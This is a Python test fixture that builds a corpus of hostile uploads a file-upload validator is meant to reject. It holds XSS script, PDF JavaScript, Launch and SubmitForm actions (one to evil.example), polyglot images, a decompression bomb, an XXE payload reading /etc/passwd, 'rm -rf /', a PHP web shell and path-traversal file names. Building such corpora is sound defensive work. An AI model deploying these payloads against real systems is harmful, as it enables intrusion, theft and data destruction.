"""A corpus of hostile uploads, generated (nothing binary is committed).

Each entry: (case id, file name as sent, content). Every one must be refused.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _image(image_format, size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(buffer, image_format)
    return buffer.getvalue()


def png():
    return _image("PNG")


def jpeg():
    return _image("JPEG")


def _zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx():
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
            "word/document.xml": "<w:document/>",
        }
    )


def pdf(extra_catalog=b"", extra_objects=b""):
    """A small, well-formed PDF; ``extra_catalog`` goes into the document catalog."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    out.write(extra_objects)
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def encrypted_pdf():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="secret", owner_password="secret2")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=60_000, height=60_000):
    """A valid PNG header announcing 3.6 gigapixels, with a few compressed rows: tiny on disk."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * ((width // 8 + 1) * 64), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def png_with_script_text_chunk():
    data = png()
    return data[:33] + _chunk(b"tEXt", b"Comment\x00" + HTML) + data[33:]


def oversize_pdf():
    return pdf() + b"%" + b"0" * (10 * 1024 * 1024)


def corpus():
    js = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    return [
        ("html-as-pdf", "releve.pdf", HTML),
        ("html-with-bom-as-pdf", "releve.pdf", b"\xef\xbb\xbf" + HTML),
        ("javascript-as-pdf", "releve.pdf", b"alert(document.domain)"),
        ("pdf-openaction-javascript", "releve.pdf", pdf(js)),
        (
            "pdf-names-javascript",
            "releve.pdf",
            pdf(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"),
        ),
        ("pdf-hex-escaped-js-name", "releve.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        ("pdf-launch-action", "releve.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("pdf-embedded-file", "releve.pdf", pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>")),
        ("pdf-rich-media", "releve.pdf", pdf(b"/AA << /O << /S /RichMedia >> >>")),
        ("pdf-submit-form", "releve.pdf", pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>")),
        ("pdf-import-data", "releve.pdf", pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >>")),
        ("pdf-gotoe", "releve.pdf", pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")),
        ("pdf-xfa-form", "releve.pdf", pdf(b"/AcroForm << /XFA 5 0 R >>")),
        ("pdf-encrypted", "releve.pdf", encrypted_pdf()),
        ("pdf-damaged", "releve.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50),
        ("pdf-with-html-inside", "releve.pdf", b"%PDF-1.4\n" + HTML + pdf()[9:]),
        ("pdf-with-second-pdf", "releve.pdf", pdf() + pdf()),
        ("svg-with-script", "image.svg", SVG),
        ("svg-as-png", "image.png", SVG),
        ("svg-as-pdf", "releve.pdf", b'<?xml version="1.0"?>' + SVG),
        ("png-plus-html", "photo.png", png() + HTML),
        ("jpeg-plus-html", "photo.jpg", jpeg() + HTML),
        ("png-plus-zip-gifar", "photo.png", png() + _zip({"payload.html": HTML})),
        ("jpeg-plus-jar-gifar", "photo.jpg", jpeg() + _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})),
        ("gif-plus-jar", "photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + _zip({"A.class": b"\xca\xfe\xba\xbe"})),
        ("png-script-in-text-chunk", "photo.png", png_with_script_text_chunk()),
        ("png-decompression-bomb", "scan.png", png_bomb()),
        ("png-damaged", "scan.png", png()[:60]),
        ("zip-archive", "pieces.zip", _zip({"a.pdf": pdf()})),
        ("zip-as-pdf", "releve.pdf", _zip({"a.pdf": pdf()})),
        ("docx", "lettre.docx", docx()),
        ("docx-as-pdf", "lettre.pdf", docx()),
        ("windows-exe-as-pdf", "releve.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("elf-as-png", "photo.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        ("shell-script-as-jpg", "photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("php-as-png", "photo.png", b"<?php system($_GET['c']); ?>"),
        ("postscript-as-pdf", "releve.pdf", b"%!PS-Adobe-3.0\n/Helvetica findfont\n"),
        ("rtf-as-pdf", "releve.pdf", b"{\\rtf1\\ansi Hello}"),
        (
            "xml-xxe-as-pdf",
            "releve.pdf",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        ),
        ("gzip-as-pdf", "releve.pdf", b"\x1f\x8b\x08\x00" + zlib.compress(b"\x00" * 100000)),
        ("plain-text", "notes.txt", "Bonjour, voici ma réclamation".encode()),
        ("empty-file", "vide.pdf", b""),
        ("oversize-pdf", "gros.pdf", oversize_pdf()),
        ("path-traversal-with-html", "../../../../var/www/index.pdf", HTML),
        ("null-byte-name-with-html", "page.html\x00.pdf", HTML),
        ("windows-traversal-with-svg", "..\\..\\evil.png", SVG),
    ]
